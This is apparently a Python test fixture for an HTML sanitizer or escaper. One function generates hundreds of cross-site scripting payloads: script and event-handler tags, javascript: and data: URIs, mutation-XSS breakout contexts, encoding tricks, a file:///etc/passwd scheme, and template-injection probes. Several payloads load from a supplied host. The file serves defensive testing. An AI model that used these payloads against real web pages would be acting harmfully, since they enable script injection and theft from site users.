"""Row 11: texts that try to be HTML."""


def texts(host):
    """Every act in every context from which it could break out, and odd forms of each."""
    js = "alert(1);window.judged=1"
    acts = [
        f"<script>{js}</script>",
        f'<script src="http://{host}/a.js"></script>',
        f"<img src=x onerror={js}>",
        f'<img src="http://{host}/a.png">',
        f"<svg onload={js}>",
        f'<svg><script href="data:text/javascript,{js}"/></svg>',
        f'<svg><image href="http://{host}/b.png"/><animate onbegin={js} attributeName=x dur=1s>',
        f'<a href="javascript:{js}">x</a>',
        f'<a href="data:text/html,<script>{js}</script>">x</a>',
        f'<iframe src="http://{host}/f"></iframe>',
        f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        f'<object data="http://{host}/o"></object><embed src="http://{host}/e">',
        f'<link rel=stylesheet href="http://{host}/s.css"><link rel=prefetch href="http://{host}/p">',
        f'<style>@import "http://{host}/s";*{{background:url(http://{host}/c)}}</style>',
        f'<meta http-equiv=refresh content="0;url=http://{host}/m">',
        f'<base href="http://{host}/">',
        f'<form action="http://{host}/"><input autofocus onfocus={js}><button formaction="javascript:{js}">',
        f"<details open ontoggle={js}>",
        f'<video src="http://{host}/v" onerror={js}><source src=x>',
        f"<body onload={js}>",
        f'<math><mi href="javascript:{js}">x</mi></math>',
        f"<template><script>{js}</script></template>",
        f'<div style="background:url(http://{host}/d)" onmouseover={js}>',
        f'<p style="position:fixed;inset:0;background:#fff">nothing here</p>',
        f'<input type=hidden oncontentvisibilityautostatechange={js} style="content-visibility:auto">',
    ]
    contexts = [
        "{}", "\"'>{}", "</title>{}", "</style>{}", "</textarea>{}", "-->{}", "]]>{}", "</script>{}", "<!--{}",
        "<![CDATA[{}]]>", "</p></td></tr></table>{}", "<noscript><p title=\"</noscript>{}\">", "&lt;{}",
        "<math><mtext><table><mglyph><style><!--</style>{}",
        "<svg><style><img title=\"</style>{}\">", "<form><math><mtext></form><form><mglyph><style></math>{}",
    ]
    found = [context.replace("{}", act) for context in contexts for act in acts]
    tags = ["script", "img", "svg", "iframe", "math", "style", "a", "body", "x"]
    ends = ["", " ", "/", "\t", "\n", "\f", "\0", "\u00a0", "\u2028"]
    # Unclosed, and parted where some parsers see no gap.
    found += [f"<{tag}{end}onload={js} href=javascript:{js} x" for tag in tags for end in ends]
    handlers = ["onclick", "onload", "onerror", "onfocus", "onmouseover", "onanimationstart", "onpointerenter", "ontoggle"]
    quotes = ['"', "'", "`", "&quot;", "\\\"", "\u201d"]
    found += [f"x{quote} {handler}={quote}{js}{quote} y={quote}" for handler in handlers for quote in quotes]
    schemes = [
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;",
        "&#106;avascript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "vbscript:", "file:///etc/passwd?",
        "blob:", "filesystem:", "view-source:", "//", "\\\\", "http:\\\\", "https://user:pass@", "intent:", "ms-word:ofe|u|",
    ]
    found += [f"{scheme}{rest}" for scheme in schemes for rest in [js, f"{host}/x", f'{host}/"onclick="{js}']]
    entities = ["&lt;", "&#60;", "&#x3c;", "&LT", "&#0000060", "%3C", "\\u003c", "\\x3c", "\uff1c", "&amp;lt;", "+ADw-"]
    found += [f"{sign}script>{js}{sign}/script>" for sign in entities]
    found += ["&", "&amp", "&copy=1", "<", "<<", "<>", "</", "<!", "<?", '"', "'", "`", "\\", "${7*7}", "{{7*7}}", "<%= 7 %>", "[[7*7]]"]
    return found
